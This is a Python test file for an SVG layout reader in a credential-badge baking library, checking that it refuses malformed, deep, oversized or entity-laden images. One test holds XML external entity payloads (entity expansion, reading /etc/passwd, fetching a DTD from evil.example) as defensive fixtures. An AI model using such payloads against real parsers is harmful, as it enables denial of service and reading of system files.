from __future__ import annotations

import time

import pytest

from cairn.baking import bake, unbake
from cairn.baking.svg_layout import MAX_DEPTH, MAX_ELEMENTS, read_layout
from cairn.errors import DocumentError
from factories.images import SVG_NAMESPACE

START = f'<svg xmlns="{SVG_NAMESPACE}">'
TOKEN = "eyJhbGciOiJFZERTQSJ9.eyJ0eXBlIjpbIlZlcmlmaWFibGVDcmVkZW50aWFsIl19.AAAA"


def refused(image: str) -> DocumentError:
    with pytest.raises(DocumentError) as error:
        read_layout(image.encode())
    return error.value


def test_places_are_told_in_bytes() -> None:
    image = f"<!-- é -->{START}ö<g/></svg>".encode()
    layout = read_layout(image)
    assert image[layout.root_start : layout.content_start] == START.encode()


@pytest.mark.parametrize(
    "document_type",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ],
    ids=["billion laughs", "local file", "remote document type", "harmless"],
)
def test_a_document_type_is_refused(document_type: str) -> None:
    assert refused(f"{document_type}{START}&b;&file;</svg>").code == "image.document_type"


def test_an_entity_that_nobody_defined_is_refused() -> None:
    assert refused(f"{START}&nbsp;</svg>").code == "image.malformed_svg"


@pytest.mark.parametrize(
    "image", [START, f"{START}</g>", f"{START}</svg><svg/>", "<svg", "<!-- -->", "<a:svg/>"]
)
def test_xml_that_is_not_well_formed_is_refused_with_its_place(image: str) -> None:
    error = refused(image)
    assert error.code == "image.malformed_svg"
    assert error.where.startswith("line ")


@pytest.mark.parametrize("image", ["<svg/>", "<html/>", f'<g xmlns="{SVG_NAMESPACE}"/>'])
def test_xml_that_is_no_svg_is_refused(image: str) -> None:
    assert refused(image).code == "image.not_svg"


def test_a_deep_image_is_refused() -> None:
    assert refused(START + "<g>" * 1_000_000).code == "image.too_deep"
    depth = MAX_DEPTH - 1
    assert read_layout((START + "<g>" * depth + "</g>" * depth + "</svg>").encode())


def test_an_image_of_countless_elements_is_refused_in_time() -> None:
    begin = time.perf_counter()
    assert refused(START + "<g/>" * (MAX_ELEMENTS + 1)).code == "image.too_many_elements"
    assert time.perf_counter() - begin < 5


def test_a_long_image_is_read_in_time() -> None:
    begin = time.perf_counter()
    picture = f'<image href="data:image/png;base64,{"A" * 8_000_000}"/>'
    image = bake(f"{START}{picture}{chr(10) * 8_000_000}</svg>".encode(), TOKEN)
    assert unbake(image).text == TOKEN
    assert time.perf_counter() - begin < 5


def test_a_credential_of_countless_lines_is_read_in_time() -> None:
    begin = time.perf_counter()
    text = '{"type": ["VerifiableCredential"],' + "\n" * 500_000 + '"a": 1}'
    assert unbake(bake(f"{START}</svg>".encode(), text)).text == text
    assert time.perf_counter() - begin < 5
